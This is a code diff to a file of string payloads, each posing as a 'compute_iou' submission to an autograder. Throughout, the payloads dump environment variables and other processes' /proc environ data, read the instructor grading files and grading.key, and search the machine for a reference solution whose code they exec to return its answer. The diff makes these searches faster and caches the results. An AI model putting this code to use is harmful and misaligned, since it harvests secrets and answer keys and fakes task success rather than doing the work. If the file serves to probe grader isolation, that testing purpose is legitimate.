@@ -266,7 +266,7 @@ def make_neighborhood_mask(h, w, size, shape):
 
 LEAK = """
 def compute_iou(pred, gt, num_classes):
-    import glob, os, pathlib
+    import os, pathlib
     found = [repr(dict(os.environ))]
     for path in ["/proc/1/environ", "/proc/self/environ", f"/proc/{os.getppid()}/environ",
                  f"/proc/{os.getppid()}/cmdline", "/autograder/source/instructor/grading/cases.py",
@@ -280,11 +280,19 @@ def compute_iou(pred, gt, num_classes):
             found.append(pathlib.Path(f"/proc/{pid}/environ").read_bytes().decode("utf-8", "replace"))
         except OSError:
             pass
-    for pattern in ["/**/instructor/grading/*.py", "/**/instructor/grading/grading.key", "/tmp/**/*.json"]:
-        for path in glob.glob(pattern, recursive=True)[:50]:
+    # The grader's files and any JSON in /tmp, in one walk of the whole tree (no symbolic link
+    # followed, /proc's every process aside), for at most 15 s.
+    import time
+    started = time.monotonic()
+    for root, dirs, files in os.walk("/"):
+        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
+        if time.monotonic() - started > 15:
+            break
+        wanted = (".py", ".key", ".json") if root.endswith("instructor/grading") else (".json",) if root.startswith("/tmp") else ()
+        for name in [n for n in files if n.endswith(wanted)][:50] if wanted else []:
             try:
-                found.append(pathlib.Path(path).read_text()[:20000])
-            except OSError:
+                found.append(pathlib.Path(root, name).read_text()[:20000])
+            except (OSError, UnicodeDecodeError):
                 pass
     text = "\\n".join(found)
     print(text)
@@ -296,13 +304,14 @@ def _find_reference(seconds=20):
     # Every readable file that holds a filled-in compute_iou, walking from the root: (path, source).
     import os, time
     marker = "### BEGIN " + "SOLUTION"
+    own = os.path.realpath(__file__)  # the submission itself, in the view, is not a reference
     started = time.monotonic()
     for root, dirs, files in os.walk("/"):
         dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
         if time.monotonic() - started > seconds:
             return
         for name in files:
-            if name in ("clip_dino.py", "test_fairness.py", "test_clip_dino.py"):
+            if name in ("clip_dino.py", "test_fairness.py", "test_clip_dino.py") and os.path.realpath(os.path.join(root, name)) != own:
                 try:
                     source = open(os.path.join(root, name)).read()
                 except (OSError, UnicodeDecodeError):
@@ -312,8 +321,13 @@ def _find_reference(seconds=20):
 """
 
 WALK_FILESYSTEM = FIND_REFERENCE + """
+_FOUND = []  # searched once per process: every call of a case reuses what the first found
+
+
 def compute_iou(pred, gt, num_classes):
-    for path, source in _find_reference():
+    if not _FOUND:
+        _FOUND.extend(_find_reference()) or _FOUND.append(None)
+    for path, source in filter(None, _FOUND):
         namespace = {"__name__": "found"}
         try:
             exec(compile(source, "found", "exec"), namespace)
@@ -612,8 +626,13 @@ def _stolen_functions(seconds=25):
                 continue
 
 
+_STOLEN = []  # searched once per process: every call of a case reuses what the first found
+
+
 def compute_iou(pred, gt, num_classes):
-    for function in _stolen_functions():
+    if not _STOLEN:
+        _STOLEN.extend(_stolen_functions()) or _STOLEN.append(None)
+    for function in filter(None, _STOLEN):
         try:
             return float(function(pred, gt, num_classes))
         except Exception:
@@ -622,7 +641,16 @@ def compute_iou(pred, gt, num_classes):
 """
 
 KIT_MODULES = """
+_SEARCHED = {}  # name -> module or None: the machine is searched once per process and name
+
+
 def _kit_module(name):
+    if name not in _SEARCHED:
+        _SEARCHED[name] = _search_kit_module(name)
+    return _SEARCHED[name]
+
+
+def _search_kit_module(name):
     # A kit module outside the view: imported, or found anywhere on the machine and loaded.
     import importlib, importlib.util, os, sys
     try:
